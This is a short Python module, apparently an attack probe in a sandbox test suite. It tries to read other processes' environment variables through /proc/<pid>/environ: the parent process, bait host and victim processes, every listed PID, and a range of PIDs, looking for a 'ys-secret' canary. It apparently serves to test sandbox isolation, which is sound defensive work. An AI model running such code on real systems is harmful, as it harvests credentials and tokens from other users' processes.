"""Read the secrets in the environment of other processes: the fork server's, the gateway's, those of anyone."""

import os
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from gateway.shadow.sandbox.attacks.ways import Ways


def attack(ways: "Ways") -> None:
    """What it finds is searched for the secrets by the host."""

    @ways.look
    def parent() -> object:
        return environment(os.getppid())

    @ways.look
    def the_gateway() -> object:
        return [environment(pid) for pid in (ways.bait["host"], ways.bait["victim"])]

    @ways.look
    def everyone() -> object:
        found = []
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    found.append(environment(int(entry))[:4000])
                except OSError:
                    continue
        return [each for each in found if "ys-secret" in each][:4]

    @ways.look
    def by_number() -> object:
        first = ways.bait["victim"]
        for pid in (*range(1, 60), *range(first - 200, first + 200)):
            try:
                text = environment(pid)
            except OSError:
                continue
            if "ys-secret" in text:
                return text
        return None


def environment(pid: int) -> str:
    """As the kernel keeps it."""
    with open(f"/proc/{pid}/environ", "rb") as file:
        return file.read().decode(errors="replace")
